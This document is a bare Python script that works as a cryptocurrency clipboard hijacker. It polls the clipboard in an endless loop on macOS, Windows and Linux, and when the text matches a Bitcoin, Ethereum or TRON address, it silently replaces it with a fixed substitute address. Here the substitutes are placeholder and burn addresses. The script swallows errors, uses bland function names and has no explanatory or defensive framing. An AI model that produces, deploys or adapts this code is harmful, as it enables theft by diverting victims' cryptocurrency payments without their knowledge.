import re
import subprocess
import sys
import time

SWAP = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "bc1qexamplexxxxxxxxxxxxxxxxxxxxxxxxx0q9x7"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x000000000000000000000000000000000000dEaD"),
    (re.compile(r"^T[A-Za-z1-9]{33}$"), "TXexamplexxxxxxxxxxxxxxxxxxxxxxxxx"),
]


def get():
    if sys.platform == "darwin":
        return subprocess.check_output(["pbpaste"], text=True)
    if sys.platform == "win32":
        return subprocess.check_output(["powershell", "-NoProfile", "Get-Clipboard"], text=True)
    return subprocess.check_output(["xclip", "-selection", "clipboard", "-o"], text=True)


def put(s):
    if sys.platform == "darwin":
        cmd = ["pbcopy"]
    elif sys.platform == "win32":
        cmd = ["clip"]
    else:
        cmd = ["xclip", "-selection", "clipboard"]
    subprocess.run(cmd, input=s, text=True)


def tidy(s):
    return s.replace("\u201c", '"').replace("\u201d", '"').strip()


last = ""
while True:
    try:
        cur = get().strip()
        if cur != last:
            for rx, addr in SWAP:
                if rx.match(cur) and cur != addr:
                    put(addr)
                    cur = addr
                    break
            last = cur
    except Exception:
        pass
    time.sleep(0.3)
